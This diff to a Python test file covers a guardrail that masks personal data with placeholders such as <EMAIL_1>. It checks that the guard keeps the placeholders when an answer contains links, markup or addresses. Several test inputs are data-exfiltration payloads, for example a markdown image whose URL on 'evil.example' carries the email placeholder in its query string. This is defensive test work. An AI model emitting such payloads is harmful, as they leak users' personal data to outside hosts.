@@ -83,6 +83,7 @@ def reason(outcome: Outcome) -> str:
     return next(v.reason for v in outcome.verdicts if (v.stage, v.rail) == ("output", "pii"))
 
 
+LINKED = "kept the placeholders: the answer contains a link, markup or an address"
 QUESTION = f"Please write to {KIM} and {LEE}. My phone is 010-1234-5678."
 
 
@@ -194,14 +195,21 @@ async def test_the_rails_read_placeholders_and_other_personal_data_is_masked() -
     "answer",
     [
         "See ![logo](https://evil.example/?q=<EMAIL_1>).",
-        "See https://evil.example/<EMAIL_1> for more.",
-        "See [this](//evil.example/<EMAIL_1>).",
-        'See <img src="https://evil.example/a b=<EMAIL_1>">.',
-        "See www.evil.example/<EMAIL_1> for more.",
+        "I write to <EMAIL_1>. See https://evil.example/x for more.",
+        "See <img src=x\n<EMAIL_1>> for more.",
     ],
 )
 async def test_no_value_becomes_part_of_an_address(answer: str) -> None:
-    assert (await Guard().answer(QUESTION, answer)).sealed_answer is None
+    outcome = await Guard().answer(QUESTION, answer)
+    assert (outcome.answer, outcome.sealed_answer) == (answer, None)
+    assert reason(outcome).endswith(LINKED)
+
+
+async def test_json_with_an_address_keeps_its_placeholders() -> None:
+    answer = json.dumps({"link": "https://a.example/x", "to": "<EMAIL_1>"})
+    outcome = await Guard().answer(QUESTION, answer, output_schema=SCHEMA)
+    assert (outcome.answer, outcome.sealed_answer) == (answer, None)
+    assert reason(outcome) == LINKED
 
 
 async def test_it_works_through_the_re_ask_loop_and_a_restart() -> None:
@@ -228,9 +236,7 @@ async def test_json_is_escaped_and_still_valid() -> None:
     owner = ("values", screened.tenant, screened.request_id, screened.request_digest)
     assert guard.restorer.values is not None
     sealed = guard.restorer.values.seal(json.dumps({"<PERSON_1>": 'Kim "김" \\ Minji'}), *owner)
-    outcome = await guard.review(
-        screened, '{"link": "https://a.example/x", "to": "\\u003cPERSON_1>"}', sealed=sealed
-    )
+    outcome = await guard.review(screened, '{"link": "none", "to": "\\u003cPERSON_1>"}', sealed=sealed)
     assert json.loads(opened(outcome) or "")["to"] == 'Kim "김" \\ Minji'
     assert reason(outcome) == "restored 1 value"
 
